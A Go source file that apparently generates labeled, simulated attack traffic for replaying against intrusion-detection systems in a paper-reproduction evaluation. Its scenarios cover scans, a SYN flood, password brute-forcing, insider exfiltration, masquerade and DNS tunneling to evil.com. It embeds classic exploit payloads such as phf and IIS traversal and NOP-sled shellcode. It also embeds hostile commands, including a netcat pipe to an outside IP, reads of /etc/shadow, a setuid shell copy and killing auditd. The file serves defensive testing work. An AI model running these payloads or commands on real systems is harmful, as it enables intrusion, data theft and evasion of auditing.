// Package attack implements the labeled attack scenarios the evaluation
// replays over background traffic. The paper's second lesson learned is
// that the observed false-negative ratio can only be measured by
// "replaying canned data with known attack content": every packet a
// scenario emits carries ground-truth labels (packet.Label) that the
// measurement harness — and only the harness — consults when scoring
// detections against Figure 3's definitions.
//
// The library covers the threat catalogue of Section 2: external attacks
// (scan, flood, exploit, tunneling in through "benign" protocols) and
// insider threats (misuse of credentials, masquerade from a compromised
// trusted host).
package attack

import (
	"fmt"
	"math/rand"
	"time"

	"repro/internal/packet"
	"repro/internal/simtime"
	"repro/internal/traffic"
)

// Technique names. Detectors key their signatures and anomaly models to
// behaviour, never to these strings; the harness keys scoring to them.
const (
	TechPortScan   = "portscan"
	TechSYNFlood   = "synflood"
	TechBruteForce = "bruteforce"
	TechExploit    = "exploit"
	TechInsider    = "insider-misuse"
	TechMasquerade = "masquerade"
	TechTunnel     = "dns-tunnel"
)

// Context provides a scenario everything it needs to emit traffic.
type Context struct {
	Sim *simtime.Sim
	Rng *rand.Rand
	Seq *packet.SeqCounter
	// Emit delivers each packet at its send time, like traffic.Emit.
	Emit traffic.Emit
	// Eps lists candidate endpoints.
	Eps traffic.Endpoints
	// Gen, when set, lets session-shaped attacks reuse the background
	// generator's TCP framing so malicious sessions are indistinguishable
	// in transport shape from benign ones.
	Gen *traffic.Generator
}

// send stamps, labels, and schedules one raw packet after delay.
func (c *Context) send(delay time.Duration, p *packet.Packet, truth packet.Label) {
	p.Seq = c.Seq.Next()
	p.Truth = truth
	if p.TTL == 0 {
		p.TTL = 64
	}
	c.Sim.MustSchedule(delay, func() { c.Emit(p) })
}

// Incident is the ground-truth record of one launched attack instance.
type Incident struct {
	ID        string
	Technique string
	Start     time.Duration
	// Duration is the scenario's planned active window.
	Duration time.Duration
	// Packets is how many labeled packets the scenario emitted.
	Packets int
	// Attacker and Victim record the principal endpoints.
	Attacker, Victim packet.Addr
}

// Scenario is one attack playbook.
type Scenario interface {
	// Technique returns the technique constant the scenario implements.
	Technique() string
	// Launch schedules the attack's packets starting at the current
	// virtual time and returns the ground-truth incident record.
	Launch(c *Context, id string) Incident
}

// Intensity scales a scenario's volume; 1.0 is the paper-testbed default.
type Intensity float64

// label builds the ground-truth label for an incident.
func label(id, technique string) packet.Label {
	return packet.Label{Malicious: true, AttackID: id, Technique: technique}
}

// pickExternal selects an attacker host on the Internet side.
func (c *Context) pickExternal() packet.Addr {
	return c.Eps.External[c.Rng.Intn(len(c.Eps.External))]
}

// pickCluster selects a victim (or compromised) host on the LAN.
func (c *Context) pickCluster() packet.Addr {
	return c.Eps.Cluster[c.Rng.Intn(len(c.Eps.Cluster))]
}

// PortScan probes a spread of TCP ports on one victim with bare SYNs.
// The detectable behaviour is many distinct destination ports from one
// source in a short window.
type PortScan struct {
	// Ports is how many distinct ports to probe (default 120·intensity).
	Ports int
	// Interval is the gap between probes (default 8ms).
	Interval time.Duration
	// Stealth stretches the probe interval past typical threshold-rule
	// windows (default 3s between probes), evading sliding-window
	// counters at the price of a much longer scan.
	Stealth  bool
	Strength Intensity
}

// Technique implements Scenario.
func (a PortScan) Technique() string { return TechPortScan }

// Launch implements Scenario.
func (a PortScan) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	ports := a.Ports
	if ports == 0 {
		ports = int(120 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 8 * time.Millisecond
		if a.Stealth {
			interval = 3 * time.Second
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechPortScan)
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	for i := 0; i < ports; i++ {
		p := &packet.Packet{
			Src: attacker, Dst: victim,
			SrcPort: srcPort, DstPort: uint16(1 + c.Rng.Intn(1024)),
			Proto: packet.ProtoTCP, Flags: packet.SYN,
		}
		c.send(at, p, truth)
		at += interval
	}
	return Incident{
		ID: id, Technique: TechPortScan, Start: c.Sim.Now(),
		Duration: at, Packets: ports, Attacker: attacker, Victim: victim,
	}
}

// SYNFlood directs a high-rate stream of SYNs with rotating spoofed
// source ports at one service, attempting resource exhaustion. The
// detectable behaviour is the SYN rate with no completed handshakes.
type SYNFlood struct {
	// Pps is the flood rate (default 4000·intensity).
	Pps float64
	// Duration is the flood window (default 2s).
	Duration time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a SYNFlood) Technique() string { return TechSYNFlood }

// Launch implements Scenario.
func (a SYNFlood) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	pps := a.Pps
	if pps == 0 {
		pps = 4000 * float64(strength)
	}
	dur := a.Duration
	if dur == 0 {
		dur = 2 * time.Second
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechSYNFlood)
	n := int(pps * dur.Seconds())
	gap := time.Duration(float64(time.Second) / pps)
	for i := 0; i < n; i++ {
		p := &packet.Packet{
			Src: attacker, Dst: victim,
			SrcPort: uint16(1024 + c.Rng.Intn(64000)), DstPort: 80,
			Proto: packet.ProtoTCP, Flags: packet.SYN,
		}
		c.send(time.Duration(i)*gap, p, truth)
	}
	return Incident{
		ID: id, Technique: TechSYNFlood, Start: c.Sim.Now(),
		Duration: dur, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// passwordGuesses is the dictionary the brute-force scenario walks.
var passwordGuesses = []string{
	"root", "password", "123456", "admin", "letmein", "qwerty",
	"toor", "changeme", "secret", "dragon", "master", "shadow",
}

// BruteForce replays rapid failed logins against the interactive service.
// Detectable by signature ("login incorrect" repetition) and by anomaly
// (attempt rate).
type BruteForce struct {
	// Attempts is the number of login attempts (default 40·intensity).
	Attempts int
	// Interval is the gap between attempts (default 150ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a BruteForce) Technique() string { return TechBruteForce }

// Launch implements Scenario.
func (a BruteForce) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	attempts := a.Attempts
	if attempts == 0 {
		attempts = int(40 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 150 * time.Millisecond
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechBruteForce)
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	n := 0
	emitTCP := func(fromAttacker bool, flags packet.TCPFlags, payload []byte) {
		p := &packet.Packet{Proto: packet.ProtoTCP, Flags: flags, Payload: payload}
		if fromAttacker {
			p.Src, p.Dst, p.SrcPort, p.DstPort = attacker, victim, srcPort, 23
		} else {
			p.Src, p.Dst, p.SrcPort, p.DstPort = victim, attacker, 23, srcPort
		}
		c.send(at, p, truth)
		n++
	}
	emitTCP(true, packet.SYN, nil)
	at += time.Millisecond
	emitTCP(false, packet.SYN|packet.ACK, nil)
	at += time.Millisecond
	emitTCP(true, packet.ACK, nil)
	for i := 0; i < attempts; i++ {
		at += interval
		guess := passwordGuesses[i%len(passwordGuesses)]
		emitTCP(true, packet.ACK|packet.PSH, []byte(fmt.Sprintf("login: root\r\npassword: %s\r\n", guess)))
		at += 20 * time.Millisecond
		emitTCP(false, packet.ACK|packet.PSH, []byte("Login incorrect\r\nlogin: "))
	}
	at += time.Millisecond
	emitTCP(true, packet.FIN|packet.ACK, nil)
	return Incident{
		ID: id, Technique: TechBruteForce, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// exploitPayloads are the known-attack byte patterns the signature
// corpus in internal/detect also knows about. They model the classic
// 2001-era exploit traffic the evaluated products shipped signatures for.
var exploitPayloads = [][]byte{
	[]byte("GET /cgi-bin/phf?Qalias=x%0a/bin/cat%20/etc/passwd HTTP/1.0\r\n\r\n"),
	[]byte("GET /scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n"),
	[]byte("GET /default.ida?NNNNNNNNNNNNNNNNNNNNNNNNNNNNNNNN%u9090%u6858 HTTP/1.0\r\n\r\n"),
	append(append([]byte("USER "), bytesRepeat(0x90, 220)...), []byte("\xeb\x1f\x5e\x89\x76\x08/bin/sh")...),
	[]byte("site exec %p%p%p%p%p%p%p%p|%n"),
	[]byte("GET /../../../../etc/shadow HTTP/1.0\r\n\r\n"),
}

func bytesRepeat(b byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = b
	}
	return out
}

// Exploit delivers known-signature exploit payloads inside otherwise
// normal-looking sessions, one per chosen victim. Detectable by any
// signature engine carrying the corpus; invisible to pure header
// analysis (this is the scenario behind the paper's Lesson 1).
type Exploit struct {
	// Count is how many exploit deliveries to attempt (default 3·intensity).
	Count int
	// Evasive splits each exploit payload into tiny TCP segments so no
	// single packet contains a complete signature — the classic
	// Ptacek–Newsham fragmentation evasion. Per-packet content scanners
	// miss it; stream-reassembling scanners do not.
	Evasive  bool
	Strength Intensity
}

// Technique implements Scenario.
func (a Exploit) Technique() string { return TechExploit }

// Launch implements Scenario.
func (a Exploit) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	count := a.Count
	if count == 0 {
		count = int(3 * float64(strength))
		if count < 1 {
			count = 1
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechExploit)
	at := time.Duration(0)
	n := 0
	srcPortBase := uint16(2000 + c.Rng.Intn(30000))
	for i := 0; i < count; i++ {
		payload := exploitPayloads[c.Rng.Intn(len(exploitPayloads))]
		srcPort := srcPortBase + uint16(i)
		type step struct {
			flags   packet.TCPFlags
			payload []byte
			gap     time.Duration
		}
		seq := []step{
			{packet.SYN, nil, 0},
			{packet.ACK, nil, 2 * time.Millisecond},
		}
		if a.Evasive {
			// Fragment the signature across ~7-byte segments.
			const frag = 7
			for off := 0; off < len(payload); off += frag {
				end := off + frag
				if end > len(payload) {
					end = len(payload)
				}
				flags := packet.ACK
				if end == len(payload) {
					flags |= packet.PSH
				}
				seq = append(seq, step{flags, payload[off:end], time.Millisecond})
			}
		} else {
			seq = append(seq, step{packet.ACK | packet.PSH, payload, 5 * time.Millisecond})
		}
		seq = append(seq, step{packet.FIN | packet.ACK, nil, 30 * time.Millisecond})
		for _, s := range seq {
			at += s.gap
			p := &packet.Packet{
				Src: attacker, Dst: victim, SrcPort: srcPort, DstPort: 80,
				Proto: packet.ProtoTCP, Flags: s.flags, Payload: s.payload,
			}
			c.send(at, p, truth)
			n++
		}
		at += time.Duration(200+c.Rng.Intn(400)) * time.Millisecond
	}
	return Incident{
		ID: id, Technique: TechExploit, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// Insider models a compromised or malicious cluster host pulling
// sensitive files over the trusted LAN: east-west interactive traffic to
// a service the cluster profile never uses, with credential-theft
// payloads. The paper singles this threat out: "when one host is
// compromised, other systems that trust it may be very easily
// compromised in ways that may look like normal interactions".
type Insider struct {
	// Transfers is the number of illicit pulls (default 6·intensity).
	Transfers int
	Strength  Intensity
}

// Technique implements Scenario.
func (a Insider) Technique() string { return TechInsider }

// Launch implements Scenario.
func (a Insider) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	transfers := a.Transfers
	if transfers == 0 {
		transfers = int(6 * float64(strength))
		if transfers < 1 {
			transfers = 1
		}
	}
	compromised := c.pickCluster()
	victim := c.pickCluster()
	for victim == compromised && len(c.Eps.Cluster) > 1 {
		victim = c.pickCluster()
	}
	truth := label(id, TechInsider)
	cmds := []string{
		"cat /etc/shadow", "scp /secure/keys.tar ext:/tmp",
		"dd if=/dev/sda of=/tmp/disk.img", "cat /secure/missionplan.dat",
		"tar cf - /var/spool/cron | nc 203.0.1.9 9999",
	}
	at := time.Duration(0)
	n := 0
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	for i := 0; i < transfers; i++ {
		cmd := cmds[c.Rng.Intn(len(cmds))]
		p := &packet.Packet{
			Src: compromised, Dst: victim, SrcPort: srcPort, DstPort: 514, // rsh-style trusted service
			Proto: packet.ProtoTCP, Flags: packet.ACK | packet.PSH,
			Payload: []byte(cmd + "\n"),
		}
		c.send(at, p, truth)
		n++
		at += 10 * time.Millisecond
		resp := &packet.Packet{
			Src: victim, Dst: compromised, SrcPort: 514, DstPort: srcPort,
			Proto: packet.ProtoTCP, Flags: packet.ACK | packet.PSH,
			Payload: traffic.BulkChunk(c.Rng, 2048+c.Rng.Intn(4096)),
		}
		c.send(at, resp, truth)
		n++
		at += time.Duration(300+c.Rng.Intn(700)) * time.Millisecond
	}
	return Incident{
		ID: id, Technique: TechInsider, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: compromised, Victim: victim,
	}
}

// Masquerade models an external attacker using stolen credentials to log
// in as a legitimate user, then issuing privilege-escalation commands.
// Transport-shape is a normal interactive session; only content and
// behaviour give it away.
type Masquerade struct {
	// Commands is how many post-login commands to run (default 8·intensity).
	Commands int
	Strength Intensity
}

// Technique implements Scenario.
func (a Masquerade) Technique() string { return TechMasquerade }

// Launch implements Scenario.
func (a Masquerade) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	commands := a.Commands
	if commands == 0 {
		commands = int(8 * float64(strength))
		if commands < 2 {
			commands = 2
		}
	}
	attacker := c.pickExternal()
	victim := c.pickCluster()
	truth := label(id, TechMasquerade)
	escalation := []string{
		"su root\n", "chmod 4755 /tmp/.hidden/sh\n",
		"echo '+ +' > /.rhosts\n", "crontab -l | grep -v audit | crontab -\n",
		"kill -9 `pidof auditd`\n", "find / -perm -4000 -print\n",
		"cp /bin/sh /tmp/.X11-lock && chmod u+s /tmp/.X11-lock\n",
	}
	srcPort := uint16(1024 + c.Rng.Intn(60000))
	at := time.Duration(0)
	n := 0
	emit := func(fromAttacker bool, flags packet.TCPFlags, payload []byte) {
		p := &packet.Packet{Proto: packet.ProtoTCP, Flags: flags, Payload: payload}
		if fromAttacker {
			p.Src, p.Dst, p.SrcPort, p.DstPort = attacker, victim, srcPort, 22
		} else {
			p.Src, p.Dst, p.SrcPort, p.DstPort = victim, attacker, 22, srcPort
		}
		c.send(at, p, truth)
		n++
	}
	emit(true, packet.SYN, nil)
	at += time.Millisecond
	emit(false, packet.SYN|packet.ACK, nil)
	at += time.Millisecond
	emit(true, packet.ACK, nil)
	at += 50 * time.Millisecond
	emit(true, packet.ACK|packet.PSH, []byte("login: operator\r\npassword: Tr0ub4dor\r\n"))
	at += 30 * time.Millisecond
	emit(false, packet.ACK|packet.PSH, []byte("Last login: from console\n$ "))
	for i := 0; i < commands; i++ {
		at += time.Duration(400+c.Rng.Intn(1200)) * time.Millisecond
		emit(true, packet.ACK|packet.PSH, []byte(escalation[i%len(escalation)]))
		at += 20 * time.Millisecond
		emit(false, packet.ACK|packet.PSH, traffic.InteractiveKeystrokes(c.Rng, false))
	}
	at += time.Millisecond
	emit(true, packet.FIN|packet.ACK, nil)
	return Incident{
		ID: id, Technique: TechMasquerade, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker, Victim: victim,
	}
}

// DNSTunnel exfiltrates data through "benign" DNS: a stream of queries
// whose labels are long high-entropy encodings. Detectable by anomaly
// engines profiling DNS payload size/entropy; invisible to port-based
// filtering (Section 2: "tunneling in through benign protocols").
type DNSTunnel struct {
	// Queries is the number of exfil queries (default 80·intensity).
	Queries int
	// Interval is the gap between queries (default 25ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a DNSTunnel) Technique() string { return TechTunnel }

// Launch implements Scenario.
func (a DNSTunnel) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	queries := a.Queries
	if queries == 0 {
		queries = int(80 * float64(strength))
	}
	interval := a.Interval
	if interval == 0 {
		interval = 25 * time.Millisecond
	}
	inside := c.pickCluster()
	outside := c.pickExternal()
	truth := label(id, TechTunnel)
	const hexdigits = "0123456789abcdef"
	at := time.Duration(0)
	for i := 0; i < queries; i++ {
		// Encode a "chunk" as three long random hex labels.
		name := make([]byte, 0, 80)
		for l := 0; l < 3; l++ {
			lab := make([]byte, 20+c.Rng.Intn(12))
			for j := range lab {
				lab[j] = hexdigits[c.Rng.Intn(16)]
			}
			name = append(name, byte(len(lab)))
			name = append(name, lab...)
		}
		name = append(name, 4, 'e', 'v', 'i', 'l', 3, 'c', 'o', 'm', 0, 0, 16, 0, 1) // QTYPE=TXT
		hdr := make([]byte, 12)
		hdr[0], hdr[1] = byte(i>>8), byte(i)
		hdr[2] = 0x01
		hdr[5] = 1
		p := &packet.Packet{
			Src: inside, Dst: outside,
			SrcPort: uint16(1024 + c.Rng.Intn(60000)), DstPort: 53,
			Proto: packet.ProtoUDP, Payload: append(hdr, name...),
		}
		c.send(at, p, truth)
		at += interval
	}
	return Incident{
		ID: id, Technique: TechTunnel, Start: c.Sim.Now(),
		Duration: at, Packets: queries, Attacker: inside, Victim: outside,
	}
}

// StandardScenarios returns one instance of every scenario at the given
// intensity, in a fixed order.
func StandardScenarios(strength Intensity) []Scenario {
	return []Scenario{
		PortScan{Strength: strength},
		SYNFlood{Strength: strength},
		BruteForce{Strength: strength},
		Exploit{Strength: strength},
		Insider{Strength: strength},
		Masquerade{Strength: strength},
		DNSTunnel{Strength: strength},
	}
}

// TechPingSweep is the ICMP reconnaissance technique label.
const TechPingSweep = "pingsweep"

// PingSweep probes every cluster host with ICMP echo requests — the
// classic network-mapping reconnaissance that precedes targeted attacks.
// It is not part of StandardScenarios (the calibrated campaign) but is
// available to extended campaigns; the 5.1 signature update and anomaly
// engines can both see it. No command launches it: it belongs to
// ExtendedScenarios.
type PingSweep struct {
	// Rounds is how many passes over the cluster to make (default
	// 3·intensity).
	Rounds int
	// Interval is the gap between probes (default 20ms).
	Interval time.Duration
	Strength Intensity
}

// Technique implements Scenario.
func (a PingSweep) Technique() string { return TechPingSweep }

// Launch implements Scenario.
func (a PingSweep) Launch(c *Context, id string) Incident {
	strength := a.Strength
	if strength == 0 {
		strength = 1
	}
	rounds := a.Rounds
	if rounds == 0 {
		// A sweep that maps the network at all makes multiple passes;
		// the floor keeps low-intensity campaigns above detectors' noise
		// thresholds, as real sweeps are.
		rounds = int(3 * float64(strength))
		if rounds < 2 {
			rounds = 2
		}
	}
	interval := a.Interval
	if interval == 0 {
		interval = 20 * time.Millisecond
	}
	attacker := c.pickExternal()
	truth := label(id, TechPingSweep)
	at := time.Duration(0)
	n := 0
	for r := 0; r < rounds; r++ {
		for _, victim := range c.Eps.Cluster {
			p := &packet.Packet{
				Src: attacker, Dst: victim,
				Proto:   packet.ProtoICMP,
				Payload: []byte{8, 0, 0, 0, byte(r), byte(n)}, // echo request header-ish
			}
			c.send(at, p, truth)
			n++
			at += interval
		}
	}
	// A sweep has no single victim: Victim stays zero, which the harness
	// treats as "match on attacker alone".
	return Incident{
		ID: id, Technique: TechPingSweep, Start: c.Sim.Now(),
		Duration: at, Packets: n, Attacker: attacker,
	}
}

// ExtendedScenarios is the harder campaign: the standard seven plus the
// reconnaissance sweep and the evasion variants (fragmented exploit,
// stealth scan). Use it to stress detection breadth beyond the
// calibrated standard run. No command runs it: it is the extended
// campaign EXPERIMENTS.md describes, pinned by
// TestVendorUpdateImprovesExtendedCampaign.
func ExtendedScenarios(strength Intensity) []Scenario {
	return append(StandardScenarios(strength),
		PingSweep{Strength: strength},
		Exploit{Strength: strength, Evasive: true},
	)
}
